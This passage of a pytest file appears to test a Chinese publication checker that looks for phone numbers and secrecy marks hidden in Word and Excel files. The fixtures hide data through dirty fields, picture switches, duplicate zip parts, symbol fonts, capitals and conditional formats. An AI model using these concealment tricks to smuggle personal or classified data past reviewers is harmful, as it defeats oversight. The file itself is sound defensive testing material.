    mobiles, _ = findings(site, "a.xlsx", _xlsx_raw(rows, before=columns))
    assert time.process_time() - started < 20
    assert len(mobiles) == 1 and "第 2000 行有" in mobiles[0].message


def _field(code: str, result: str = "", simple: bool = False) -> str:
    if simple:
        return f'<w:fldSimple w:instr="{code}"><w:r><w:t>{result}</w:t></w:r></w:fldSimple>'
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


@pytest.mark.parametrize("paragraph", [
    "<w:p><w:r><w:t>咨询电话：</w:t></w:r>" + _field("PAGE", "1") + "<w:r><w:t>12345678</w:t></w:r></w:p>",
    "<w:p><w:r><w:t>咨询电话：139</w:t></w:r>" + _field("NUMPAGES") + "<w:r><w:t>5678</w:t></w:r></w:p>",
    "<w:p><w:r><w:t>编号</w:t></w:r>" + _field("SEQ 编号 \\* ARABIC", "2", simple=True) + "<w:r><w:t>00</w:t></w:r></w:p>",
])
def test_a_computed_field_beside_digits_is_named_for_the_reviewer(site, paragraph):
    """A page number, a count or a sequence number is computed as the document is laid out: in a section whose pages
    start at 139, `{PAGE}12345678` shows 13912345678 whatever result the file stores. The reviewer is told."""
    site.attach("a.docx", _docx_with_xml(paragraph))
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    [problem] = site.problems(privacy.NOT_SCANNED.code)
    assert "正文第 3 段" in problem.message and "显示时才计算的域紧挨着数字" in problem.message


def _dirty(field: str) -> str:
    return field.replace('w:fldCharType="begin"/>', 'w:fldCharType="begin" w:dirty="true"/>').replace(
        "<w:fldSimple ", '<w:fldSimple w:dirty="true" ')


@pytest.mark.parametrize("paragraph", [
    "<w:p><w:r><w:t>联系电话139</w:t></w:r>" + _dirty(_field('QUOTE "12345678"')) + "</w:p>",
    "<w:p><w:r><w:t>联系电话</w:t></w:r>" + _dirty(_field('= 1391234*10000+5678 \\# "0"', "0")) + "</w:p>",
    "<w:p><w:r><w:t>联系电话139</w:t></w:r>" + _dirty(_field("DOCPROPERTY tel", simple=True)) + "</w:p>",
    "<w:p><w:r><w:t>联系电话139</w:t></w:r>" + _dirty(_field("REF 号码 \\h")) + "</w:p>",
    # a content control Word fills from a custom XML part as the file opens, whatever text the file stores in it
    '<w:p><w:r><w:t>联系电话139</w:t></w:r><w:sdt><w:sdtPr><w:dataBinding w:xpath="/a[1]/b[1]" '
    'w:storeItemID="{00000000-0000-0000-0000-000000000001}"/></w:sdtPr><w:sdtContent><w:r><w:t>（待填）</w:t></w:r>'
    "</w:sdtContent></w:sdt></w:p>",
], ids=["quote", "formula", "docproperty", "ref", "data-bound"])
def test_what_word_works_out_again_as_the_file_opens_is_named_for_the_reviewer(site, paragraph):
    """A field marked dirty is computed again by Word as it opens the file, and a data-bound content control filled
    from its custom XML part: the stored result (empty, 0, 待填) is not what the reader sees (rt41)."""
    site.attach("a.docx", _docx_with_xml(paragraph))
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    [problem] = site.problems(privacy.NOT_SCANNED.code)
    assert "正文第 3 段" in problem.message and "打开文件时由 Word 重新计算或填入" in problem.message


@pytest.mark.parametrize("paragraph", [
    "<w:p><w:r><w:t>联系电话：</w:t></w:r>" + _field("PAGE \\# \"'1391234567'0\"", "见附件") + "</w:p>",
    "<w:p><w:r><w:t>联系电话：</w:t></w:r>" + _field("DATE \\@ &quot;'139123456'yy&quot;", "见附件", simple=True) + "</w:p>",
    "<w:p><w:r><w:t>联系电话：</w:t></w:r>" + _field("PAGE \\# \"'139'0'2345678'\"") + "</w:p>",
    "<w:p><w:r><w:t>联系电话：</w:t></w:r>" + _field("PAGE \\# 13912345670", "1") + "</w:p>",
    "<w:p><w:r><w:t>联系电话：</w:t></w:r>" + _dirty(_field("REF 号码 \\# \"'139'0\"", "")) + "</w:p>",
], ids=["page-quoted", "date-quoted", "page-split", "page-bare-digits", "dirty-ref"])
def test_digits_a_fields_picture_writes_into_its_result_are_named_for_the_reviewer(site, paragraph):
    """A picture switch writes its own text into the result Word works out: `{ PAGE \\# "'1391234567'0" }` shows
    13912345671 on page 1, a number neither the stored result nor the field's code (10 digits in a row) holds (rt42 F1)."""
    site.attach("a.docx", _docx_with_xml(paragraph))
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    [problem] = site.problems(privacy.NOT_SCANNED.code)
    assert "正文第 3 段" in problem.message and "打开文件时由 Word 重新计算或填入" in problem.message


def test_a_picture_of_placeholders_and_words_is_read_as_stored(site):
    paragraph = ("<w:p><w:r><w:t>第</w:t></w:r>" + _field("PAGE \\# \"0\"", "1") + "<w:r><w:t>页，</w:t></w:r>"
                 + _field("DATE \\@ \"yyyy'年'M'月'd'日'\"", "2026年12月7日") + "</w:p>")
    site.attach("a.docx", _docx_with_xml(paragraph))
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    assert site.problems(privacy.NOT_SCANNED.code) == []


def test_a_field_word_works_out_again_across_paragraphs_is_named_where_it_begins(site):
    """A dirty formula begun in one paragraph and ended in the next, with no stored result: each part was read where it
    stands, and neither paragraph was named (rt42 F3)."""
    begin, code, separate, end = (
        '<w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>',
        '<w:r><w:instrText xml:space="preserve"> = 1391234567*10+8 </w:instrText></w:r>',
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    paragraphs = (f"<w:p><w:r><w:t>联系电话：</w:t></w:r>{begin}{code}{separate}</w:p>"
                  f"<w:p>{end}<w:r><w:t>（办公室）</w:t></w:r></w:p>")
    site.attach("a.docx", _docx_with_xml(paragraphs))
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    named = [problem.message for problem in site.problems(privacy.NOT_SCANNED.code)]
    assert ["正文第 3 段" in message and "打开文件时由 Word 重新计算或填入" in message for message in named] == [True, False]
    assert "正文第 4 段" in named[1]


def test_fields_word_updates_as_the_file_opens_are_named_for_the_reviewer(site):
    """`w:updateFields` in the settings: Word asks to update every field as it opens the file, and a reader says yes."""
    paragraph = "<w:p><w:r><w:t>联系电话139</w:t></w:r>" + _field('QUOTE "12345678"') + "</w:p>"
    with zipfile.ZipFile(io.BytesIO(_docx_with_xml(paragraph))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    settings = parts["word/settings.xml"]
    assert isinstance(settings, bytes)
    parts["word/settings.xml"] = re.sub(r"(<w:settings[^>]*>)", r'\1<w:updateFields w:val="true"/>', settings.decode(), count=1)
    site.attach("a.docx", office_zip(parts))
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    [problem] = site.problems(privacy.NOT_SCANNED.code)
    assert "正文第 3 段" in problem.message and "打开文件时由 Word 重新计算或填入" in problem.message


_MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'


def _alternatives(choice: str, fallback: str) -> str:
    return (f'<mc:AlternateContent {_MC}><mc:Choice Requires="w14"><w:r><w:t>{choice}</w:t></w:r></mc:Choice>'
            f"<mc:Fallback><w:r><w:t>{fallback}</w:t></w:r></mc:Fallback></mc:AlternateContent>")


@pytest.mark.parametrize("paragraph", [
    "<w:p><w:r><w:t>联系电话139</w:t></w:r>" + _alternatives("12345678", "9") + "</w:p>",
    "<w:p><w:r><w:t>联系电话139</w:t></w:r>" + _alternatives("9", "12345678") + "</w:p>",
    f'<w:p {_MC} xmlns:x="urn:example:note" mc:Ignorable="x"><w:r><w:t>联系电话139</w:t></w:r>'
    "<x:note><w:r><w:t>0</w:t></w:r></x:note><w:r><w:t>12345678</w:t></w:r></w:p>",
], ids=["first-choice", "fallback", "ignorable"])
def test_text_as_each_application_draws_its_alternatives_is_read(site, paragraph):
    """Markup compatibility: Word draws the first alternative it understands, an older program the fallback, and one
    that does not know a namespace the part says may be ignored drops its elements. Read joined, `139` + a choice of
    `12345678` + a fallback of `9` were 12 digits, no mobile number (rt43-7)."""
    mobiles, _ = findings(site, "a.docx", _docx_with_xml(paragraph))
    assert [p for p in mobiles if "139****5678" in p.message], [p.message for p in mobiles]


def test_alternatives_of_the_same_words_are_read_as_they_are(site):
    paragraph = "<w:p><w:r><w:t>联系电话：</w:t></w:r>" + _alternatives("见附件", "见附件") + "<w:r><w:t>12345678</w:t></w:r></w:p>"
    mobiles, _ = findings(site, "a.docx", _docx_with_xml(paragraph))
    assert mobiles == []


def test_a_headers_styleref_beside_digits_is_named_for_the_reviewer(site):
    """STYLEREF shows the text of the page's paragraph of a style, worked out as the page is laid out (rt43-3)."""
    paragraph = "<w:p><w:r><w:t>联系电话139</w:t></w:r>" + _field('STYLEREF "TelStyle"') + "</w:p>"
    site.attach("a.docx", _docx_with_xml(paragraph))
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    [problem] = site.problems(privacy.NOT_SCANNED.code)
    assert "正文第 3 段" in problem.message and "显示时才计算的域紧挨着数字" in problem.message


@pytest.mark.parametrize("planted_first", [True, False], ids=["planted-first", "planted-last"])
def test_every_copy_of_a_part_listed_twice_is_read_and_the_reviewer_told(site, planted_first):
    """Two entries named word/document.xml: zipfile (and so the reader) took the last, LibreOffice's repair the first;
    a mobile number in the first passed unread (rt43-10)."""
    import warnings

    with zipfile.ZipFile(io.BytesIO(docx_with("正文", "无"))) as source:
        entries = [(name, source.read(name)) for name in source.namelist()]
    clean = dict(entries)["word/document.xml"]
    planted = ("word/document.xml", clean.decode().replace("正文", "联系电话13912345678").encode())
    entries = [planted, *entries] if planted_first else [*entries, planted]
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # zipfile warns of the name it writes twice
        for name, data in entries:
            archive.writestr(name, data)
    site.attach("a.docx", out.getvalue())
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    problems = site.check()
    assert [p for p in problems if p.code == privacy.MOBILE.code and "139****5678" in p.message]
    assert [p for p in problems if p.code == privacy.NOT_SCANNED.code and "同名的部件" in p.message]


def test_a_field_not_marked_dirty_is_read_as_stored(site):
    paragraph = "<w:p><w:r><w:t>详见</w:t></w:r>" + _field("REF 附件 \\h", "附件一") + "</w:p>"
    site.attach("a.docx", _docx_with_xml(paragraph))
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    assert site.problems(privacy.NOT_SCANNED.code) == []


def _recalculating(formula: str, stored: str, calculation: str = '<calcPr fullCalcOnLoad="1"/>') -> bytes:
    """A workbook set to compute every formula again as it opens, one formula cell with an out-of-date stored value."""
    with zipfile.ZipFile(io.BytesIO(xlsx_with(1))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    workbook = parts["xl/workbook.xml"]
    assert isinstance(workbook, bytes)
    parts["xl/workbook.xml"] = re.sub(r"<calcPr[^>]*/>", "", workbook.decode()).replace("</workbook>", f"{calculation}</workbook>")
    sheet = next(name for name in parts if name.startswith("xl/worksheets/") and name.endswith(".xml"))
    text = parts[sheet]
    assert isinstance(text, bytes)
    parts[sheet] = re.sub(r"<c r=\"A1\"[^>]*>.*?</c>", f'<c r="A1"><f>{formula}</f><v>{stored}</v></c>', text.decode(), count=1)
    return office_zip(parts)


@pytest.mark.parametrize("calculation", ['<calcPr fullCalcOnLoad="1"/>', '<calcPr calcId="1"/>', ""],
                         ids=["full-calc-on-load", "older-excel", "no-calc-settings"])
def test_a_formula_a_workbook_computes_again_as_it_opens_is_read_as_computed(site, calculation):
    """Excel computes every formula again when the file says so, and when another program or an older Excel calculated
    it last (calcId): a stored 0 for `1391234567*10+8` showed 13912345678 (rt42 F4)."""
    for formula in ("27824691356/2", "1391234567*10+8"):
        mobiles, _ = findings(site, "a.xlsx", _recalculating(formula, "0", calculation))
        assert [p for p in mobiles if "139****5678" in p.message], [p.message for p in mobiles]


def test_a_formula_computed_again_that_is_not_worked_out_here_is_named_for_the_reviewer(site):
    site.attach("a.xlsx", _recalculating("VLOOKUP(1,B1:C9,2)", "0"))
    site.item(attachments=[{"title": "材料", "file": "a.xlsx"}])
    [problem] = site.problems(privacy.NOT_SCANNED.code)
    assert "打开时重新计算全部公式" in problem.message


def test_a_long_field_code_is_judged_once_for_all_the_runs_of_its_result():
    """A field's code was judged again for every run of its result: a 50 KB code over 20,000 runs took 121 s."""
    from lxml import etree

    code = "PAGE " + "\\# \"'x'0\" " * 5_000
    part = (f'<w:document {_W}><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}'
            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>' + "<w:r><w:t>1</w:t></w:r>" * 20_000
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>')
    started = time.process_time()
    lines = list(office._xml_lines(etree.iterparse(io.BytesIO(part.encode()), events=("start", "end"))))
    assert ("shown", "1" * 20_000) in lines
    assert time.process_time() - started < 5.0


def test_a_paragraph_of_many_computed_fields_is_read_in_linear_time():
    """Each stretch of computed fields was measured on a copy of the rest of the paragraph: 100,000 fields took 16 s
    (rt34 M3)."""
    drawn = [office._Piece("1", "", False, "computed" if index % 2 else "") for index in range(100_000)]
    started = time.process_time()
    assert fields.computed_beside_digits(drawn)
    drawn = [office._Piece("页" if index % 2 else "1", "", False, "" if index % 2 else "computed") for index in range(100_000)]
    assert not fields.computed_beside_digits(drawn)
    assert time.process_time() - started < 2.0


def test_a_page_number_among_words_is_let_be(site):
    paragraph = ("<w:p><w:r><w:t>第 </w:t></w:r>" + _field("PAGE", "1") + "<w:r><w:t> 页，共</w:t></w:r>"
                 + _field("NUMPAGES", "3") + "</w:p>")
    site.attach("a.docx", _docx_with_xml(paragraph))
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    assert site.problems(privacy.NOT_SCANNED.code) == []


@pytest.mark.parametrize("code", ["SYMBOL {n}", 'SYMBOL {n} \\f "Arial"', "SYMBOL 0x{x} \\f Symbol"])
def test_a_symbol_field_is_read_as_the_character_it_draws(site, code):
    """LibreOffice and WPS draw a SYMBOL field's character whatever result the file stores (here none)."""
    digits = "".join(_field(code.format(n=ord(digit), x=f"{ord(digit):X}")) for digit in "13912345678")
    mobiles, _ = findings(site, "a.docx", _docx_with_xml(f"<w:p><w:r><w:t>联系电话：</w:t></w:r>{digits}</w:p>"))
    assert [p.message for p in mobiles if pii.mask("13912345678") in p.message and "（按显示的样子）" in p.message]


def _nested_in_fields(depth: int, inner: str) -> str:
    """`inner` inside the results of `depth` nested QUOTE fields."""
    begin = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    opening = (begin.format("begin") + '<w:r><w:instrText xml:space="preserve"> QUOTE "x" </w:instrText></w:r>'
               + begin.format("separate")) * depth
    return opening + inner + begin.format("end") * depth


@pytest.mark.parametrize("depth", [office._FIELD_DEPTH, office._FIELD_DEPTH + 1])
def test_a_field_nested_past_the_bound_is_read_as_code_and_named(site, depth):
    """A field opened past `_FIELD_DEPTH` is counted, not dropped: its text up to its end is read as code, which Word
    does not show, and the part is named once as not read to its end (GK305). Dropped, its code `0` was read as shown,
    its end closed the field around it, and `139{0}12345678`, drawn as 13912345678, passed in silence."""
    code = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:t>0</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    inner = f"<w:r><w:t>联系电话：139</w:t></w:r>{code}<w:r><w:t>12345678</w:t></w:r>"
    paragraph = f"<w:p>{_nested_in_fields(depth, inner)}</w:p>"
    mobiles, _ = findings(site, "a.docx", _docx_with_xml(paragraph * 2))
    [deep] = [p for p in site.problems(privacy.NOT_SCANNED.code) if "域嵌套超过 32 层" in p.message]
    assert "正文" in deep.message
    shown = [p.message for p in mobiles if "（按显示的样子）" in p.message]
    # At the bound the inner field is the one past it: its code is hidden and the number shown is found; one level
    # deeper the whole paragraph is past it, read as code, and named for the reviewer instead.
    assert bool(shown) == (depth == office._FIELD_DEPTH), shown


@pytest.mark.parametrize("capitals, style", [
    ("<w:caps/>", ""), ("<w:smallCaps/>", ""),
    ('<w:rStyle w:val="Shout"/>', '<w:style w:type="character" w:styleId="Shout"><w:rPr><w:caps/></w:rPr></w:style>'),
])
def test_a_run_drawn_in_capitals_is_read_in_capitals(site, capitals, style):
    """`ı39ı2345678` drawn in capitals is I39I2345678, which reads as a phone number (the theme's capitals too)."""
    body = _runs(("联系电话：", ""), ("ı39ı2345678", capitals))
    mobiles, _ = findings(site, "a.docx", _docx_with_styles(body, style))
    assert [p.message for p in mobiles if "正文第 3 段（按显示的样子）" in p.message]


_WINGDINGS = '<w:rFonts w:ascii="Wingdings" w:hAnsi="Wingdings"/>'
_THEME = ('<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:themeElements><a:fontScheme name="x">'
          '<a:majorFont><a:latin typeface="Arial"/></a:majorFont><a:minorFont><a:latin typeface="Wingdings"/>'
          '</a:minorFont></a:fontScheme></a:themeElements></a:theme>')


def _styled_docx(body: str, styles: str = "", defaults: str = "", theme: bool = False) -> bytes:
    parts = {"word/document.xml": f"<w:document {_W}><w:body>{body}</w:body></w:document>",
             "word/styles.xml": f"<w:styles {_W}>{defaults}{styles}</w:styles>"}
    return office_zip({**parts, "word/theme/theme1.xml": _THEME} if theme else parts)


def _style(kind: str, name: str, properties: str = "", based: str = "", default: bool = False) -> str:
    default_ = ' w:default="1"' if default else ""
    based_on = f'<w:basedOn w:val="{based}"/>' if based else ""
    return f'<w:style w:type="{kind}" w:styleId="{name}"{default_}>{based_on}<w:rPr>{properties}</w:rPr></w:style>'


def _defaults(properties: str) -> str:
    return f"<w:docDefaults><w:rPrDefault><w:rPr>{properties}</w:rPr></w:rPrDefault></w:docDefaults>"


_IN_STYLE = '<w:pPr><w:pStyle w:val="P2"/></w:pPr>'


@pytest.mark.parametrize("paragraph_style, run_style, styles, defaults, theme, text", [
    # a symbol font by a character style, one based on it, a paragraph style (based on another), the default
    # paragraph style, the document's defaults, the theme's minor font
    ("", '<w:rStyle w:val="S2"/>', _style("character", "S", _WINGDINGS) + _style("character", "S2", based="S"), "", False, "«"),
    (_IN_STYLE, "", _style("paragraph", "P", _WINGDINGS) + _style("paragraph", "P2", based="P"), "", False, "«"),
    ("", "", _style("paragraph", "Normal", _WINGDINGS, default=True), "", False, "«"),
    ("", "", "", _defaults(_WINGDINGS), False, "«"),
    ("", "", _style("table", "T", _WINGDINGS), "", False, "«"),  # the style of the table the paragraph is in
    ("", '<w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"/>', "", "", True, "«"),
    ("", "", _style("paragraph", "Normal", '<w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"/>', default=True),
     "", True, "«"),
    # capitals by a paragraph style and by the document's defaults: ı39ı2345678 drawn as I39I2345678
    (_IN_STYLE, "", _style("paragraph", "P", "<w:caps/>") + _style("paragraph", "P2", based="P"), "", False, "ı39ı2345678"),
    ("", "", "", _defaults("<w:smallCaps/>"), False, "ı39ı2345678"),
    # hidden by a paragraph style and by the document's defaults, the number's pieces switched back on
    (_IN_STYLE, "", _style("paragraph", "P", "<w:vanish/>") + _style("paragraph", "P2", based="P"), "", False, "0000"),
    ("", "", "", _defaults("<w:vanish/>"), False, "0000"),
])
def test_run_properties_a_run_inherits_from_its_styles_and_the_defaults_are_drawn(paragraph_style, run_style, styles,
                                                                                  defaults, theme, text):
    """A symbol font, capitals or hiding set not on the run but by its character style, its paragraph's style (each
    with the styles it is based on), its table's style, the document's default paragraph style or run properties, or
    the theme's font, is drawn all the same: 机密« in Wingdings by a style was read as stored and passed (the run's
    own font and character style's capitals only were followed)."""
    from gongkai.checks import marks
    from gongkai.reader_text import fold
    from gongkai.readers import core

    shown_on = '<w:vanish w:val="0"/><w:rFonts w:ascii="Arial" w:hAnsi="Arial"/>'
    before, after = {"«": ("本项目属机密", "，请勿外传"), "0000": ("电话139", "12345678")}.get(text, ("电话", "。"))
    body = (f"<w:p>{paragraph_style}<w:r><w:rPr>{shown_on}</w:rPr><w:t>{before}</w:t></w:r>"
            f"<w:r><w:rPr>{run_style}</w:rPr><w:t>{text}</w:t></w:r>"
            f"<w:r><w:rPr>{shown_on}</w:rPr><w:t>{after}</w:t></w:r></w:p>")
    if 'w:type="table"' in styles:
        body = f'<w:tbl><w:tblPr><w:tblStyle w:val="T"/></w:tblPr><w:tr><w:tc>{body}</w:tc></w:tr></w:tbl><w:p/>'
    reading = core.Reading()
    office.read_office(_styled_docx(body, styles, defaults, theme), "", reading, 0)
    shown = [fold(segment.text) for segment in reading.segments if segment.where.endswith(core.AS_SHOWN)]
    assert any(list(marks.find(line)) for line in shown) if text == "«" else any(
        list(pii.find(line, dt.date(2026, 1, 1))) for line in shown)


def test_a_list_levels_text_is_read_in_its_levels_symbol_font():
    """A list level's text is drawn before each item in the level's font (`w:lvl`'s `w:rPr`): 机密« in Wingdings
    shows 机密★ before every item, and was read only as stored."""
    from gongkai.checks import marks
    from gongkai.reader_text import fold
    from gongkai.readers import core

    numbering = (f'<w:numbering {_W}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:numFmt w:val="bullet"/>'
                 f'<w:lvlText w:val="本项目属机密«请勿外传"/><w:rPr>{_WINGDINGS}</w:rPr></w:lvl></w:abstractNum>'
                 '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>')
    body = '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>条目</w:t></w:r></w:p>'
    reading = core.Reading()
    with zipfile.ZipFile(io.BytesIO(_styled_docx(body))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    office.read_office(office_zip({**parts, "word/numbering.xml": numbering}), "", reading, 0)
    assert [segment for segment in reading.segments if list(marks.find(fold(segment.text)))]


def test_a_style_chain_past_the_bound_or_in_a_loop_costs_little():
    """10,000 styles each based on the one before, and two based on each other: followed to a bounded depth."""
    from gongkai.readers import core

    styles = _style("character", "s0", _WINGDINGS + "<w:caps/>") + "".join(
        _style("character", f"s{index}", based=f"s{index - 1}") for index in range(1, 10_000))
    styles += _style("character", "a", based="b") + _style("character", "b", based="a")
    body = "<w:p>" + "".join(f'<w:r><w:rPr><w:rStyle w:val="{name}"/></w:rPr><w:t>x</w:t></w:r>'
                             for name in ["a", *(f"s{index}" for index in range(10_000))]) + "</w:p>"
    started = time.process_time()
    reading = core.Reading()
    office.read_office(_styled_docx(body, styles), "", reading, 0)
    assert reading.segments and time.process_time() - started < 5.0


@pytest.mark.parametrize("cell, font", [
    ('<c r="A1" t="inlineStr" s="1"><is><t>本项目属机密«请勿外传</t></is></c>', '<name val="Wingdings"/>'),  # the style's font
    ('<c r="A1" t="s" s="1"><v>0</v></c>', '<name val="Wingdings"/>'),  # a shared string in it
    ('<c r="A1" t="inlineStr"><is><r><t>本项目属机密</t></r><r><rPr><rFont val="Wingdings"/></rPr><t>«</t></r></is></c>', ""),
    ('<c r="A1" t="s" s="1"><v>0</v></c>', '<name val="宋体"/><scheme val="minor"/>'),  # the theme's minor font
])
def test_a_cell_drawn_in_a_symbol_font_is_read_as_drawn(cell, font):
    """A cell whose style's font is Wingdings (or the theme's font, Wingdings), or an inline string's run in it, draws
    « as ★: 机密« passed (only a shared string's own runs were read in their font)."""
    from gongkai.checks import marks
    from gongkai.reader_text import fold
    from gongkai.readers import core

    styles = (f'<fonts count="2"><font><name val="宋体"/></font><font>{font}</font></fonts>'
              '<cellXfs count="2"><xf numFmtId="0" fontId="0"/><xf numFmtId="0" fontId="1" applyFont="1"/></cellXfs>')
    with zipfile.ZipFile(io.BytesIO(_xlsx_raw(f'<row r="1">{cell}</row>', styles=styles))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    parts["xl/sharedStrings.xml"] = f"<sst {_X_MAIN}><si><t>本项目属机密«请勿外传</t></si></sst>"
    parts["xl/theme/theme1.xml"] = _THEME
    reading = core.Reading()
    office.read_office(office_zip(parts), "", reading, 0)
    assert [segment for segment in reading.segments if list(marks.find(fold(segment.text)))]


def test_a_sheets_page_number_beside_digits_is_named_for_the_reviewer(site):
    before = ('<pageSetup firstPageNumber="139" useFirstPageNumber="1"/>'
              '<headerFooter><oddFooter>&amp;C咨询电话：&amp;P12345678</oddFooter></headerFooter>')
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>名单</t></is></c></row>'
    site.attach("a.xlsx", _xlsx_raw_after(rows, before))
    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
    [problem] = site.problems(privacy.NOT_SCANNED.code)
    assert "页脚" in problem.message and "页码（&P、&N）紧挨着数字" in problem.message


def test_a_conditional_format_that_writes_digits_is_named_for_the_reviewer(site):
    styles = ('<cellXfs count="1"><xf numFmtId="0"/></cellXfs><dxfs count="2"><dxf><font><b/></font></dxf>'
              '<dxf><numFmt numFmtId="200" formatCode="&quot;139&quot;0"/></dxf></dxfs>')
    rows = '<row r="2"><c r="B2"><v>12345678</v></c></row>'
    after = ('<conditionalFormatting sqref="B2"><cfRule type="expression" dxfId="1" priority="1">'
             "<formula>TRUE</formula></cfRule></conditionalFormatting>")
    site.attach("a.xlsx", _xlsx_raw_after(rows, after, styles=styles))
    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
    [problem] = site.problems(privacy.NOT_SCANNED.code)
    assert "B2 单元格" in problem.message and "条件格式的数字格式带有数字" in problem.message


def _xlsx_raw_after(rows: str, after: str, **kwargs) -> bytes:
    """`_xlsx_raw` with `after` following the sheet's data (page set-up, headers, conditional formats)."""
    with zipfile.ZipFile(io.BytesIO(_xlsx_raw(rows, **kwargs))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert isinstance(sheet, bytes)
    parts["xl/worksheets/sheet1.xml"] = sheet.decode().replace("</sheetData>", "</sheetData>" + after)
    return office_zip(parts)


@pytest.mark.parametrize("change", [
    lambda numbering: numbering.replace('<w:lvlText w:val="%1."/>', '<w:lvlText w:val="139%1"/>', 1),
    lambda numbering: numbering.replace('<w:start w:val="1"/>', '<w:start w:val="12345678"/>', 1),
])
def test_a_list_number_drawn_beside_digits_is_named_for_the_reviewer(site, change):
    """Word draws a list level's number in its text: `139%1` from 12345678 on shows 13912345678 before the first item."""
    with zipfile.ZipFile(io.BytesIO(docx_with("正文", "无"))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    numbering = parts["word/numbering.xml"]
    assert isinstance(numbering, bytes)
    parts["word/numbering.xml"] = change(numbering.decode())
    site.attach("a.docx", office_zip(parts))
    site.item(attachments=[{"title": "材料", "file": "a.docx"}])
    [problem] = site.problems(privacy.NOT_SCANNED.code)
    assert "项目编号" in problem.message and "编号格式中的数字或很大的起始编号" in problem.message


def _raised_docx(*runs: tuple[str, str]) -> bytes:
    """A python-docx document with one paragraph of runs: (text, "" | "superscript" | "subscript")."""
    import docx

    document = docx.Document()
    paragraph = document.add_paragraph()
    for text, place in runs:
        run = paragraph.add_run(text)
        if place:
            setattr(run.font, place, True)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@pytest.mark.parametrize("runs, number, mark", [
    ((("本件机", ""), ("1", "superscript"), ("密★，请妥善保管。", "")), "", "机密★"),
    ((("本件机", ""), ("a", "subscript"), ("密★，请妥善保管。", "")), "", "机密★"),
    ((("本件机", ""), ("1", "superscript"), ("密", ""), ("★", "superscript"), ("，请妥善保管。", "")), "", "机密★"),
    ((("联系电话：139", ""), ("[1]", "superscript"), ("12345678", "")), "13912345678", ""),
])
def test_a_raised_or_lowered_note_in_a_word_paragraph_is_read_past(site, runs, number, mark):
    """A note Word draws raised or lowered (`w:vertAlign`) is read past, as the site's <sup> and <sub> are: 机¹密★ and
    139¹12345678 were read as written and passed; a raised piece that is no note (the ★ of 机¹密★) is kept."""
    mobiles, marks = findings(site, "a.docx", _raised_docx(*runs))
    assert any(pii.mask(number) in p.message for p in mobiles) if number else not mobiles
    assert any(mark in p.message for p in marks) if mark else not marks


def test_raised_text_that_is_no_note_is_not_read_past(site):
    """Only a note is read past: raised words (机<sup>要</sup>密★ reads 机要密★) stay where they are."""
    mobiles, marks = findings(site, "a.docx", _raised_docx(("本件机", ""), ("要件", "superscript"), ("密★说明", "")))
    assert not mobiles and not marks


@pytest.mark.parametrize("shared", [True, False])
def test_a_raised_note_in_a_workbooks_rich_text_is_read_past(site, shared):
    """A workbook's rich-text run raised with `vertAlign` (a shared string's, a cell's own) is read past as a note."""
    rich = '<r><t>本件机</t></r><r><rPr><vertAlign val="superscript"/></rPr><t>1</t></r><r><t>密★，请妥善保管</t></r>'
    _, marks = findings(site, "a.xlsx", _one_string_workbook(rich, shared))
    assert any("机密★" in p.message for p in marks)


_A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
_P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'


def _zipped_pptx(paragraphs: str) -> bytes:
    """A .zip holding a presentation of one slide whose text box holds `paragraphs` (a:p elements): PPTX is no
    attachment of its own, so it travels in a zip, which is read member by member."""
    slide = (f"<p:sld {_P} {_A}><p:cSld><p:spTree><p:sp><p:txBody><a:bodyPr/><a:lstStyle/>{paragraphs}</p:txBody></p:sp>"
             "</p:spTree></p:cSld></p:sld>")
    presentation = office_zip({
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
